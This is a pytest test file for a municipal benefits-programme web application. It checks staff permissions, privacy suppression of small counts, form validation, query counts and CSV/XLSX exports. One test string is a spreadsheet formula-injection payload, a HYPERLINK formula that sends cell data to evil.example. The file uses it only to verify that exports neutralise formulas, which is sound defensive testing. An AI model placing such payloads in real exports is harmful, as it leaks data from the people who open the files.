"""The staff pages: who sees what, the forms' errors, exports and the register's query count."""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django_tenants.utils import schema_context
from openpyxl import load_workbook

from programmes import services
from programmes.models import BenefitApplication, Person, Service
from tests.conftest import client_for
from tests.queries import assert_get_query_count, assert_query_count

Status = BenefitApplication.Status
DAY = datetime.date(2025, 7, 1)
# council members read the reporting calendar's periods only: June-August 2025 holds DAY
COUNCIL_SUMMARY = "/programmes/summary/?received_from=2025-06-01&received_to=2025-08-31"


@pytest.fixture
def decided(fire, make_application, make_person, head):
    application = make_application(
        fire, person=make_person(first_name="ქეთევან", last_name="გაბუნია", personal_number="01024054321")
    )
    services.application_decide(
        application=application, actor=head, approved=True, amount=Decimal(1500), decided_on=DAY
    )
    return application


def register_form_data(service, **overrides):
    data = {
        "personal_number": "01001099999",
        "first_name": "მარიამ",
        "last_name": "ბენდელიანი",
        "sex": "female",
        "birth_date": "1980-03-04",
        "phone": "599000111",
        "email": "",
        "settlement": "ბაჯი",
        "address": "",
        "service": service.pk,
        "channel": "paper",
        "received_on": "2025-07-02",
        "requested_amount": "",
        "feedback_form_handed": "on",
        "consent_social_status": "on",
    }
    data.update(overrides)
    return data


def test_front_desk_registers_an_application_through_the_form(ambrolauri, fire):
    client = client_for(ambrolauri, "frontdesk")
    response = client.post("/programmes/applications/new/", register_form_data(fire))
    assert response.status_code == 302
    application = BenefitApplication.objects.get()
    assert response["Location"] == f"/programmes/applications/{application.pk}/"
    assert application.registered_by.username == "frontdesk"
    assert application.feedback_form_handed
    assert application.applicant.consents.get().purpose == "social_status_data"
    page = client.get(response["Location"]).content.decode()
    assert application.number in page and "ბენდელიანი" in page


@pytest.mark.parametrize(
    ("field", "value"),
    [("personal_number", "0100109999"), ("received_on", "2099-01-01"), ("requested_amount", "3000.01")],
)
def test_the_register_form_names_the_wrong_field_and_saves_nothing(ambrolauri, fire, field, value):
    client = client_for(ambrolauri, "frontdesk")
    response = client.post("/programmes/applications/new/", register_form_data(fire, **{field: value}))
    assert response.status_code == 200
    assert field in response.context["form"].errors
    assert f'id="id_{field}_error"' in response.content.decode()
    assert not BenefitApplication.objects.exists()
    assert not Person.objects.exists()


def test_the_head_decides_through_the_form_and_the_budget_moves(ambrolauri, fire, make_application):
    application = make_application(fire)
    client = client_for(ambrolauri, "head")
    before = client.get("/programmes/budget/?year=2025").context["totals"]["committed"]
    response = client.post(
        f"/programmes/applications/{application.pk}/decide/",
        {"approved": "yes", "amount": "2000", "reason": "", "decided_on": "2025-07-05", "confirmed": "1"},
    )
    assert response.status_code == 302
    after = client.get("/programmes/budget/?year=2025").context["totals"]["committed"]
    assert after - before == Decimal(2000)
    application.refresh_from_db()
    assert application.status == Status.APPROVED


def test_the_decide_form_refuses_an_amount_above_the_cap(ambrolauri, fire, make_application):
    application = make_application(fire)
    client = client_for(ambrolauri, "head")
    response = client.post(
        f"/programmes/applications/{application.pk}/decide/",
        {"approved": "yes", "amount": "3500", "reason": "", "decided_on": "2025-07-05"},
    )
    assert response.status_code == 422
    assert "amount" in response.context["form"].errors
    application.refresh_from_db()
    assert application.status == Status.RECEIVED


def test_the_decide_form_refuses_a_second_decision(ambrolauri, decided):
    client = client_for(ambrolauri, "head")
    response = client.post(
        f"/programmes/applications/{decided.pk}/decide/",
        {"approved": "no", "amount": "", "reason": "again", "decided_on": "2025-07-05"},
    )
    assert response.status_code == 422
    assert "გადაწყვეტილება უკვე მიღებულია" in response.content.decode()
    decided.refresh_from_db()
    assert decided.status == Status.APPROVED


def test_the_decide_form_is_not_offered_for_a_decided_application(ambrolauri, decided):
    response = client_for(ambrolauri, "head").get(
        f"/programmes/applications/{decided.pk}/decide/", follow=True
    )
    assert response.redirect_chain == [(f"/programmes/applications/{decided.pk}/", 302)]
    assert "დაკმაყოფილებული" in response.content.decode()


def test_the_payment_form_refuses_more_than_decided(ambrolauri, decided):
    client = client_for(ambrolauri, "head")
    response = client.post(
        f"/programmes/applications/{decided.pk}/pay/", {"amount": "1500.01", "paid_on": "2025-07-06"}
    )
    assert response.status_code == 422
    assert "amount" in response.context["form"].errors
    assert not decided.payments.exists()


def test_front_desk_cannot_open_the_decide_form(ambrolauri, fire, make_application):
    application = make_application(fire)
    client = client_for(ambrolauri, "frontdesk")
    assert client.get(f"/programmes/applications/{application.pk}/decide/").status_code == 403
    response = client.post(
        f"/programmes/applications/{application.pk}/decide/",
        {"approved": "yes", "amount": "100", "decided_on": "2025-07-05"},
    )
    assert response.status_code == 403
    application.refresh_from_db()
    assert application.status == Status.RECEIVED


def test_a_council_member_sees_aggregates_but_never_names_or_personal_numbers(ambrolauri, decided):
    client = client_for(ambrolauri, "council")
    for url in (
        "/programmes/",
        f"/programmes/applications/{decided.pk}/",
        "/programmes/applications/export.csv",
    ):
        assert client.get(url).status_code == 403, url
    for url in (
        "/programmes/summary/",
        "/programmes/budget/?year=2025",
        "/programmes/catalogue/",
        "/programmes/budget/export.csv?year=2025",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        body = b"".join(response.streaming_content) if response.streaming else response.content
        text = body.decode("utf-8-sig")
        assert "გაბუნია" not in text and "01024054321" not in text, url
    response = client.get(COUNCIL_SUMMARY)
    summary = response.context["rows"]
    assert [(r["code"], r["total"], r["women"], r["decided_amount"]) for r in summary] == [
        ("fire_aid", None, None, None)
    ], "one application is one family: hidden, and so is its money"
    page = response.content.decode()
    assert "×" in page and "1500" not in page


def test_the_head_of_service_reads_the_exact_summary(ambrolauri, decided):
    response = client_for(ambrolauri, "head").get("/programmes/summary/")
    assert [(r["code"], r["total"], r["women"], r["decided_amount"]) for r in response.context["rows"]] == [
        ("fire_aid", 1, 1, Decimal(1500))
    ]
    assert "1500.00" in response.content.decode() and "×" not in response.content.decode()


def test_the_council_summary_hides_figures_that_subtraction_would_reveal(
    ambrolauri, fire, newborn, make_application, make_person, head
):
    # newborn: 6 applications, 1 rejected and 5 approved; fire: 7, all approved (4 women, 3 men).
    for n in range(6):
        application = make_application(newborn)
        services.application_decide(
            application=application,
            actor=head,
            approved=n > 0,
            amount=None,
            reason="" if n else "not eligible",
            decided_on=DAY,
        )
    for n in range(7):
        application = make_application(fire, person=make_person(sex="female" if n < 4 else "male"))
        services.application_decide(
            application=application, actor=head, approved=True, amount=Decimal(1000), decided_on=DAY
        )
    response = client_for(ambrolauri, "council").get(COUNCIL_SUMMARY)
    rows = {r["code"]: r for r in response.context["rows"]}
    totals = response.context["totals"]
    keys = ("total", "approved", "rejected", "women", "men", "decided_amount")
    assert [rows["newborn_aid"][k] for k in keys] == [6, None, None, None, None, None], (
        "the one rejection is hidden, so is 5 approved (6 - 5 = 1) and their 2,500 GEL (5 x 500); "
        "newborn aid's 0 men beside the hidden men of fire aid and in all would say every man applied "
        "for fire aid: hidden, and its 6 women with it"
    )
    assert [rows["fire_aid"][k] for k in keys] == [7, None, None, None, None, None], (
        "fire aid's 0 rejections beside the one hidden rejection of newborn aid and the hidden total "
        "would say who was rejected: hidden, so its 7 approved and their 7,000 GEL are hidden with them"
    )
    assert [totals[k] for k in keys] == [13, None, None, None, None, None], (
        "13 - 12 would give the rejection away; 3 men in all would give fire aid's men away"
    )
    page = response.content.decode()
    assert "2500.00" not in page and "9500.00" not in page and "7000.00" not in page


def test_the_council_threshold_follows_the_municipalitys_feedback_setting(
    ambrolauri, fire, make_application, make_person
):
    from feedback.models import FeedbackSettings

    for sex in ("female", "female", "female", "male", "male", "male"):
        make_application(fire, person=make_person(sex=sex))
    client = client_for(ambrolauri, "council")
    with schema_context(ambrolauri.schema_name):
        FeedbackSettings.objects.update_or_create(pk=1, defaults={"suppression_threshold": 3})
    response = client.get(COUNCIL_SUMMARY)
    row = response.context["rows"][0]
    assert (row["total"], row["women"], row["men"]) == (6, 3, 3)
    assert response.context["threshold"] == 3


def test_a_released_summary_keeps_its_hidden_cells_when_the_threshold_is_lowered(
    ambrolauri, fire, make_application, make_person
):
    from feedback.models import FeedbackSettings

    for sex in ("female", "female", "female", "male", "male", "male"):
        make_application(fire, person=make_person(sex=sex))
    client = client_for(ambrolauri, "council")
    with schema_context(ambrolauri.schema_name):
        FeedbackSettings.objects.update_or_create(pk=1, defaults={"suppression_threshold": 5})
    row = client.get(COUNCIL_SUMMARY).context["rows"][0]
    assert (row["total"], row["women"], row["men"]) == (6, None, None)
    with schema_context(ambrolauri.schema_name):
        FeedbackSettings.objects.filter(pk=1).update(suppression_threshold=3)
    # the period was released with these cells hidden: a lower threshold applies to later releases
    row = client.get(COUNCIL_SUMMARY).context["rows"][0]
    assert (row["total"], row["women"], row["men"]) == (6, None, None)


def test_the_register_filters_and_searches(ambrolauri, fire, newborn, make_application, make_person, decided):
    make_application(newborn, channel="email", received_on=datetime.date(2025, 6, 3))
    make_application(newborn, person=make_person(last_name="ჩხეიძე"), received_on=datetime.date(2025, 9, 1))
    client = client_for(ambrolauri, "head")

    def numbers(query):
        return {a.number for a in client.get(f"/programmes/?{query}").context["page"].object_list}

    assert len(numbers("")) == 3
    assert numbers(f"service={fire.pk}") == {decided.number}
    assert numbers("status=approved") == {decided.number}
    assert len(numbers("channel=email")) == 1
    assert len(numbers("received_from=2025-06-01&received_to=2025-08-31")) == 2
    assert len(numbers("q=ჩხეიძე")) == 1
    assert numbers("q=01024054321") == {decided.number}
    assert numbers(f"q={decided.number}") == {decided.number}
    assert numbers("q=0102405") == {decided.number}  # start of a personal number
    assert len(numbers("q=2025-")) == 3  # start of a registration number


def test_the_register_answers_htmx_with_the_table_only(ambrolauri, decided):
    client = client_for(ambrolauri, "head")
    response = client.get("/programmes/?status=approved", HTTP_HX_REQUEST="true")
    assert response.templates[0].name == "programmes/_register_table.html"
    assert decided.number in response.content.decode()


def test_the_register_runs_the_same_number_of_queries_for_10_and_50_rows(
    ambrolauri, newborn, make_application
):
    for day in range(60):
        make_application(newborn, received_on=datetime.date(2025, 6, 1) + datetime.timedelta(days=day % 30))
    client = client_for(ambrolauri, "head")
    client.get("/programmes/")  # warm the session and the tenant cache

    def rows_shown(query: str, queries: int) -> int:
        with assert_query_count(queries):
            response = client.get(f"/programmes/?{query}")
        assert response.status_code == 200
        return len(response.context["page"].object_list)

    assert rows_shown("per_page=10", 7) == 10
    assert rows_shown("per_page=50", 7) == 50
    # the service filter reads the service it names
    assert rows_shown(f"per_page=10&service={newborn.pk}&status=received", 8) == 10
    assert rows_shown(f"per_page=50&service={newborn.pk}&status=received", 8) == 50


def test_register_exports_in_csv_and_xlsx(ambrolauri, decided):
    client = client_for(ambrolauri, "head")
    response = client.get("/programmes/applications/export.csv?status=approved")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert len(rows) == 2
    assert rows[1][0] == decided.number and rows[1][2] == "fire_aid" and rows[1][9] == "1500.00"

    response = client.get("/programmes/applications/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 2
    assert sheet.cell(2, 1).value == decided.number


def test_budget_exports_carry_the_totals(ambrolauri, newborn, decided):
    client = client_for(ambrolauri, "head")
    sheet = load_workbook(io.BytesIO(client.get("/programmes/budget/export.xlsx?year=2025").content)).active
    last = [c.value for c in sheet[sheet.max_row]]
    assert last[3:6] == [25000, 1500, 0]
    text = b"".join(client.get("/programmes/budget/export.csv?year=2025").streaming_content).decode(
        "utf-8-sig"
    )
    assert "fire_aid" in text and "newborn_aid" in text


def test_the_head_edits_the_catalogue(ambrolauri, programme):
    client = client_for(ambrolauri, "head")
    response = client.post(
        f"/programmes/catalogue/programmes/{programme.pk}/services/new/",
        {
            "code": "home_care",
            "name_ka": "შინ მოვლა",
            "name_en": "Home care",
            "kind": "service",
            "amount_rule": "none",
            "position": 3,
        },
    )
    assert response.status_code == 302
    service = programme.services.get(code="home_care")
    response = client.post(
        f"/programmes/catalogue/services/{service.pk}/budget/",
        {"planned": "12000", "funding_source": "ბიუჯეტი"},
    )
    assert response.status_code == 302
    assert service.budget_lines.get().planned == 12000
    page = client.get("/programmes/catalogue/?year=2025").content.decode()
    assert "შინ მოვლა" in page
    assert (
        client_for(ambrolauri, "frontdesk").get(f"/programmes/catalogue/services/{service.pk}/").status_code
        == 403
    )


def test_pages_switch_to_english(ambrolauri, newborn):
    client = client_for(ambrolauri, "head")
    client.post("/i18n/setlang/", {"language": "en", "next": "/programmes/catalogue/"})
    page = client.get("/programmes/catalogue/").content.decode()
    assert "Newborn aid" in page


def test_front_desk_corrects_an_undecided_application_and_the_history_keeps_it(
    ambrolauri, fire, newborn, make_application
):
    application = make_application(fire)
    client = client_for(ambrolauri, "frontdesk")
    response = client.post(
        f"/programmes/applications/{application.pk}/correct/",
        {"service": newborn.pk, "channel": "paper", "received_on": "2025-07-01", "requested_amount": ""},
    )
    assert response.status_code == 302
    event = application.events.get(action="updated")
    assert event.changes["service"] == ["fire_aid", "newborn_aid"]
    assert set(event.changes) == {"service"}, "only what changed is recorded"
    page = client.get(f"/programmes/applications/{application.pk}/").content.decode()
    assert "შესწორდა" in page  # "Corrected" in the history


def test_a_decided_application_cannot_be_corrected(ambrolauri, decided, newborn):
    response = client_for(ambrolauri, "frontdesk").post(
        f"/programmes/applications/{decided.pk}/correct/",
        {"service": newborn.pk, "channel": "paper", "received_on": "2025-07-01"},
    )
    assert response.status_code == 422
    decided.refresh_from_db()
    assert decided.service.code == "fire_aid"


def test_a_new_applicant_joins_an_existing_household(ambrolauri, fire, make_person):
    parent = make_person(personal_number="01001055555", first_name="გელა", last_name="ქარჩავა", sex="male")
    client = client_for(ambrolauri, "frontdesk")
    response = client.post(
        "/programmes/applications/new/", register_form_data(fire, household_of="01001066666")
    )
    assert "household_of" in response.context["form"].errors
    assert not BenefitApplication.objects.exists()
    response = client.post(
        "/programmes/applications/new/", register_form_data(fire, household_of="01001055555")
    )
    assert response.status_code == 302
    applicant = BenefitApplication.objects.get().applicant
    assert applicant.household_id == parent.household_id
    assert "გელა ქარჩავა" in client.get(response["Location"]).content.decode()


def test_front_desk_withdraws_a_consent_from_the_detail_page(ambrolauri, fire):
    client = client_for(ambrolauri, "frontdesk")
    client.post("/programmes/applications/new/", register_form_data(fire))
    application = BenefitApplication.objects.get()
    consent = application.applicant.consents.get()
    response = client.post(f"/programmes/consents/{consent.pk}/withdraw/", {"application": application.pk})
    assert response.status_code == 302
    consent.refresh_from_db()
    assert consent.withdrawn_on is not None


def test_budget_summary_and_detail_cost_the_same_queries_for_more_rows(
    ambrolauri, head, programme, newborn, make_application
):
    client = client_for(ambrolauri, "head")
    application = make_application(newborn)
    pages = {  # path: exact number of queries
        "/programmes/budget/?year=2025": 9,
        "/programmes/summary/": 5,
        f"/programmes/applications/{application.pk}/": 10,
    }
    for url, queries in pages.items():
        assert_get_query_count(client, url, queries)
    for code in ("a", "b", "c"):
        service = services.service_create(
            actor=head,
            programme=programme,
            code=code,
            name_ka=code,
            kind="one_time_cash",
            amount_rule="cap",
            amount=Decimal(100),
        )
        services.budget_line_set(actor=head, service=service, planned=Decimal(1000))
        make_application(service)
    services.application_decide(
        application=application, actor=head, approved=True, amount=None, decided_on=DAY
    )
    services.payment_record(application=application, actor=head, amount=Decimal(200), paid_on=DAY)
    services.payment_record(application=application, actor=head, amount=Decimal(300), paid_on=DAY)
    for url, queries in pages.items():
        assert_get_query_count(client, url, queries)


def test_the_register_api_costs_the_same_queries_for_10_and_50_rows(ambrolauri, newborn, make_application):
    for _ in range(55):
        make_application(newborn)
    client = client_for(ambrolauri, "head")
    assert_get_query_count(client, "/api/v1/programmes/applications/?page_size=10", 6)
    assert_get_query_count(client, "/api/v1/programmes/applications/?page_size=50", 6)


def test_a_commission_member_cannot_open_or_export_the_application_register(ambrolauri, decided):
    client = client_for(ambrolauri, "commission")
    for url in (
        "/programmes/",
        f"/programmes/applications/{decided.pk}/",
        "/programmes/applications/export.csv",
        "/programmes/applications/export.xlsx",
    ):
        assert client.get(url).status_code == 403, url
    assert client.post(f"/programmes/applications/{decided.pk}/review/").status_code == 403
    for url in ("/programmes/summary/", "/programmes/budget/?year=2025", "/programmes/catalogue/"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert "გაბუნია" not in response.content.decode(), url
    menu = client.get("/programmes/catalogue/").content.decode()
    assert 'href="/programmes/"' not in menu, "the register is not offered in the menu"


EVIL_NAME = '=HYPERLINK("http://evil.example/?"&H2,"x")'


def test_a_name_that_looks_like_a_formula_is_exported_as_plain_text(
    ambrolauri, fire, make_application, make_person, head
):
    application = make_application(fire, person=make_person(first_name=EVIL_NAME, last_name="@SUM(1)"))
    services.application_decide(
        application=application, actor=head, approved=True, amount=Decimal(1500), decided_on=DAY
    )
    client = client_for(ambrolauri, "head")

    response = client.get("/programmes/applications/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[1][6] == "'" + EVIL_NAME + " @SUM(1)", "a spreadsheet shows the text instead of running it"
    assert rows[1][9] == "1500.00"

    response = client.get("/programmes/applications/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    name = sheet.cell(2, 7)
    assert name.data_type == "s" and name.value == "'" + EVIL_NAME + " @SUM(1)"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row), "no formula at all"
    amount = sheet.cell(2, 10)
    assert amount.data_type == "n" and amount.value == 1500, "numbers stay numbers"


@pytest.mark.parametrize("prefix", ["+", "-", "@", "\t", "\r"])
def test_a_service_name_that_could_start_a_formula_is_neutralised_in_the_budget_export(
    ambrolauri, head, programme, prefix
):
    service = services.service_create(
        actor=head, programme=programme, code="odd", name_ka="odd", kind="service"
    )
    # written past the service, which refuses control characters (tab, carriage return) in names now: a row
    # stored before that rule is still neutralised in the export
    Service.objects.filter(pk=service.pk).update(name_ka=f"{prefix}1+1")
    services.budget_line_set(actor=head, service=service, planned=Decimal(100))
    client = client_for(ambrolauri, "head")
    text = b"".join(client.get("/programmes/budget/export.csv?year=2025").streaming_content).decode(
        "utf-8-sig"
    )
    row = next(r for r in csv.reader(io.StringIO(text)) if r and r[1] == "odd")
    assert row[2] == f"'{prefix}1+1" and row[3] == "100.00"
    sheet = load_workbook(io.BytesIO(client.get("/programmes/budget/export.xlsx?year=2025").content)).active
    cells = next(r for r in sheet.iter_rows() if r[1].value == "odd")
    # (XML reads a stored carriage return back as a line feed, hence only the apostrophe is compared)
    assert cells[2].value.startswith("'") and cells[2].data_type == "s" and cells[3].value == 100


def test_the_register_form_refuses_someone_elses_personal_number_with_a_different_name(
    ambrolauri, fire, make_person
):
    person = make_person(personal_number="01001099999", first_name="ნინო", last_name="ჩიხლაძე")
    client = client_for(ambrolauri, "frontdesk")
    response = client.post("/programmes/applications/new/", register_form_data(fire))
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert {"personal_number", "first_name", "last_name"} <= set(errors)
    assert 'id="id_personal_number_error"' in response.content.decode()
    person.refresh_from_db()
    assert (person.first_name, person.last_name) == ("ნინო", "ჩიხლაძე")
    assert not BenefitApplication.objects.exists()


def test_the_front_desk_changes_the_applicants_phone_and_the_page_shows_who_did(
    ambrolauri, fire, make_application
):
    application = make_application(fire)
    person = application.applicant
    client = client_for(ambrolauri, "frontdesk")
    url = f"/programmes/persons/{person.pk}/?application={application.pk}"
    form = client.get(url).context["form"]
    assert set(form.fields) == {"phone", "email"}, "the front desk does not rename people"
    response = client.post(url, {"phone": "599777888", "email": "", "first_name": "Attacker"})
    assert (
        response.status_code == 302 and response["Location"] == f"/programmes/applications/{application.pk}/"
    )
    person.refresh_from_db()
    assert (person.phone, person.first_name) == ("599777888", "ნინო")
    history = client.get(response["Location"]).content.decode()
    assert "599777888" in history and "თამარ გელაშვილი" in history
    assert client_for(ambrolauri, "council").get(url).status_code == 403
    assert set(client_for(ambrolauri, "head").get(url).context["form"].fields) >= {"first_name", "sex"}


def test_the_council_summary_marks_every_hidden_cell_alike_and_explains_the_mark(
    ambrolauri, fire, make_application, make_person
):
    # 6 paper applications, 1 by e-mail: the e-mail one is below 5, and paper (6) is hidden with it
    # because 7 - 6 would give it away. Paper is not "<5", so no cell may say so.
    for n in range(7):
        make_application(fire, channel="email" if n == 6 else "paper")
    client = client_for(ambrolauri, "council")
    response = client.get(COUNCIL_SUMMARY)
    row = response.context["rows"][0]
    assert (row["total"], row["paper"], row["email"]) == (7, None, None)
    page = response.content.decode()
    assert "&lt;5" not in page and "<5" not in page
    cells = re.search(r'<tr data-code="fire_aid">.*?</tr>', page, re.S).group(0)
    assert cells.count("×") >= 2, "the e-mail cell and the paper cell carry the same mark"
    legend = re.search(r'id="suppression-note".*?</p>', page, re.S).group(0)
    assert "დამალულია პირადი მონაცემების დასაცავად" in legend and "5" in legend
    client.post("/i18n/setlang/", {"language": "en", "next": COUNCIL_SUMMARY})
    page = client.get(COUNCIL_SUMMARY).content.decode()
    assert (
        "hidden to protect privacy: fewer than 5, or a figure from which such a number could be worked out"
        in page
    )
    api_row = client.get(
        "/api/v1/programmes/summary/?received_from=2025-06-01&received_to=2025-08-31"
    ).json()[0]
    assert (api_row["paper"], api_row["email"]) == (None, None), "the API keeps null for hidden cells"


def test_the_register_keeps_numbers_on_one_line_and_gives_the_full_service_name_on_hover(
    ambrolauri, fire, make_application
):
    make_application(fire)
    page = client_for(ambrolauri, "frontdesk").get("/programmes/").content.decode()
    row = re.search(r'<table[^>]*id="register-table".*?<tbody>\s*<tr>(.*?)</tr>', page, re.S).group(1)
    assert re.search(r'<td class="nowrap"><a [^>]*>2025-\d{6}</a></td>', row), "the number does not wrap"
    assert 'class="service-name" title="ხანძრით დაზარალებულთა დახმარება"' in row
    with open("programmes/static/programmes/programmes.css", encoding="utf-8") as css:
        styles = css.read()
    assert "white-space: nowrap" in styles and "-webkit-line-clamp: 2" in styles


def test_the_catalogue_and_budget_read_in_one_language_each(ambrolauri, newborn):
    client = client_for(ambrolauri, "head")
    ka = (
        client.get("/programmes/catalogue/").content.decode()
        + client.get("/programmes/budget/?year=2025").content.decode()
    )
    assert ">edit<" not in ka and ">budget<" not in ka and ">Edit<" not in ka
    assert "რიგითობა" in ka, "the service's display order is not a job title"
    assert "თანამდებობა" not in ka
    client.post("/i18n/setlang/", {"language": "en", "next": "/programmes/catalogue/"})
    en = (
        client.get("/programmes/catalogue/").content.decode()
        + client.get("/programmes/budget/?year=2025").content.decode()
    )
    assert ">Edit<" in en and ">edit<" not in en and ">budget<" not in en
    assert 'title="display order"' in en


def test_the_service_form_labels_the_order_as_display_order_in_georgian(ambrolauri, newborn):
    page = (
        client_for(ambrolauri, "head").get(f"/programmes/catalogue/services/{newborn.pk}/").content.decode()
    )
    assert "რიგითობა" in page and "თანამდებობა" not in page


def test_the_payment_form_is_not_offered_once_the_decision_is_paid_in_full(ambrolauri, decided, head):
    client = client_for(ambrolauri, "head")
    page = client.get(f"/programmes/applications/{decided.pk}/").content.decode()
    assert f'href="/programmes/applications/{decided.pk}/pay/"' in page
    services.payment_record(application=decided, actor=head, amount=Decimal(1500), paid_on=DAY)
    page = client.get(f"/programmes/applications/{decided.pk}/").content.decode()
    assert f'href="/programmes/applications/{decided.pk}/pay/"' not in page
    assert f'href="/programmes/applications/{decided.pk}/end/"' in page
    response = client.get(f"/programmes/applications/{decided.pk}/pay/", follow=True)
    assert response.redirect_chain == [(f"/programmes/applications/{decided.pk}/", 302)]
